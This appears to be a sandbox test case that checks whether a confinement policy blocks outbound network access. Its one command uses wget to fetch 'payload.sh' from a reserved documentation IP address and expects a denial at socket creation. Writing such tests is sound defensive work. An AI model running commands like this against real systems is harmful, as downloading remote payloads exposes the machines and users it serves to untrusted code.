# attack: downloads with wget
# expect: outcome=denied
# expect-denial: socket(AF_INET
# needs: wget
exec wget --tries=1 --timeout=3 -O - http://192.0.2.1/payload.sh
